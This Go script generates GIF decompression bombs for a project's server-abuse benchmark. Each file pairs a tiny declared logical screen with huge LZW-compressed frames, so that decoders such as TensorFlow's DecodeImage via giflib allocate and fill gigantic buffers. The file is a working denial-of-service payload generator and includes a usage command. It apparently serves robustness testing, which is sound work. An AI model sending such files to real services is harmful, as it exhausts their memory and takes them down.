//go:build ignore

// gifbomb writes the GIF decompression bombs of `make bench-serve`'s abuse
// phase: real LZW data, so that a decoder that trusts the logical screen
// (TensorFlow's DecodeImage: giflib's DGifSlurp) really allocates and fills
// every frame.
//
//	go run scripts/gifbomb.go -screen 1x1 -frame 20000x20000 -frames 1 -out bomb.gif
package main

import (
	"bytes"
	"compress/lzw"
	"encoding/binary"
	"flag"
	"fmt"
	"io"
	"log"
	"os"
)

// zeros reads n zero bytes without holding them.
type zeros struct{ n int64 }

func (z *zeros) Read(p []byte) (int, error) {
	if z.n <= 0 {
		return 0, io.EOF
	}
	k := min(int64(len(p)), z.n)
	clear(p[:k])
	z.n -= k
	return int(k), nil
}

func main() {
	screen := flag.String("screen", "1x1", "logical screen the header declares, WxH")
	frame := flag.String("frame", "20000x20000", "size of each frame, WxH (at 0,0)")
	frames := flag.Int("frames", 1, "number of frames (all the same)")
	out := flag.String("out", "bomb.gif", "output file")
	flag.Parse()
	var sw, sh, fw, fh int
	if _, err := fmt.Sscanf(*screen, "%dx%d", &sw, &sh); err != nil {
		log.Fatalf("-screen: %v", err)
	}
	if _, err := fmt.Sscanf(*frame, "%dx%d", &fw, &fh); err != nil {
		log.Fatalf("-frame: %v", err)
	}
	// One frame's LZW data, compressed once and repeated.
	var z bytes.Buffer
	zw := lzw.NewWriter(&z, lzw.LSB, 2)
	if _, err := io.Copy(zw, &zeros{n: int64(fw) * int64(fh)}); err != nil {
		log.Fatal(err)
	}
	zw.Close()
	var body bytes.Buffer
	body.Write([]byte{0, 2}) // packed (no local table), LZW code size
	for data := z.Bytes(); len(data) > 0; {
		n := min(len(data), 255)
		body.WriteByte(byte(n))
		body.Write(data[:n])
		data = data[n:]
	}
	body.WriteByte(0)
	var b bytes.Buffer
	b.WriteString("GIF89a")
	binary.Write(&b, binary.LittleEndian, []uint16{uint16(sw), uint16(sh)})
	b.Write([]byte{0x80, 0, 0, 0, 0, 0, 255, 255, 255})
	for i := 0; i < *frames; i++ {
		b.WriteByte(0x2C)
		binary.Write(&b, binary.LittleEndian, []uint16{0, 0, uint16(fw), uint16(fh)})
		b.Write(body.Bytes())
	}
	b.WriteByte(0x3B)
	if err := os.WriteFile(*out, b.Bytes(), 0o644); err != nil {
		log.Fatal(err)
	}
}
